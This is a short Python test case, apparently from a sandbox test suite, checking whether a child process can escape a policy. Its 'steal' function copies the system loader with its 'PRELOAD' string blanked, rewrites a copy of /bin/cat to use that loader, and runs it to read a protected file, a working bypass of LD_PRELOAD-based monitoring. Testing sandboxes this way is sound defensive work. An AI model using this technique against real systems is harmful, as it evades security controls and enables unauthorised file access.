# class: children
# rule: create_child_process
# policy: child-allowed.yaml
# success: a program that names a patched loader as its own reads a file in /tmp
# proof: read
import os
import subprocess

from attack import FILE, attempt


@attempt
def steal():
    with open("/proc/self/maps") as maps:
        loader = next(line.split()[-1] for line in maps if "/ld-" in line)
    with open(loader, "rb") as opened:
        code = opened.read()
    with open("ld.so", "wb") as opened:
        opened.write(code.replace(b"PRELOAD\0", b"NOTHING\0"))
    with open("/bin/cat", "rb") as opened:
        program = opened.read()
    at = program.index(b"/lib", program.index(b"\x7fELF"))
    end = program.index(b"\0", at)
    with open("cat", "wb") as opened:
        opened.write(program[:at] + b"ld.so".ljust(end - at, b"\0") + program[end:])
    os.chmod("ld.so", 0o755)
    os.chmod("cat", 0o755)
    return subprocess.run(["./cat", FILE], stdout=subprocess.PIPE).stdout
